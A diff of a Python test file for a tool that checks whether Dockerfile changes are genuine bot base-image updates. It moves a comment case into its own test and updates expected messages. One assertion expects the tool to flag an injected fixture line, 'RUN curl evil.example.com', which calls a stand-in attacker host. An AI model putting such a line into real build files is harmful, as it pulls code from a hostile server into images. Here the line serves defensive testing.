@@ -135,7 +135,6 @@ COMPLAINTS = {
     "variant": f"not an update of `{PYTHON}`: that is a digest or a later patch version",
     "one place of two": "another stage has a different image there",
     "stage name": f"not an update of `{PYTHON}`: that is a digest or a later patch version",
-    "a comment": "not an update of a base image",
     "case": "not an update of a base image",
 }
 
@@ -146,6 +145,14 @@ def test_a_check_says_of_each_line_why_it_is_not_taken_over(tmp_path: Path, how:
     change(folder, "web/Dockerfile", EVIL[how])
     said = run("check", "--full", cwd=folder, code=1).err
     assert f"`: {COMPLAINTS[how]}\n" in said and TAKEN not in said
+
+
+def test_a_check_says_of_a_line_that_is_no_from_only_that_it_was_written_by_hand(tmp_path: Path) -> None:
+    folder = project(tmp_path)
+    change(folder, "web/Dockerfile", EVIL["a comment"])
+    ended = run("check", "--full", cwd=folder, code=1)
+    assert "`# x` was written by hand\n" in ended.err and "not an update" not in ended.err
+    assert ended.err.count("was edited by hand") == 1 and ended.out == ""
 
 
 def test_a_check_tells_a_bots_lines_from_those_that_came_with_them(tmp_path: Path) -> None:
@@ -162,7 +169,7 @@ def test_a_check_tells_a_bots_lines_from_those_that_came_with_them(tmp_path: Pat
     said = run("check", "--full", cwd=folder, code=1).err
     assert all(f"web/Dockerfile:{number}: `{lines[number - 1]}`: {TAKEN}\n" in said for number in bots)
     assert f"web/Dockerfile:{other}: `RUN curl evil.example.com" in said and "\x1b" not in said
-    assert "`: not an update of a base image\n" in said
+    assert "` was written by hand\n" in said and "not an update" not in said
     assert "web/Dockerfile: `EXPOSE 8000` is missing\n" in said
     (annotation,) = [
         line
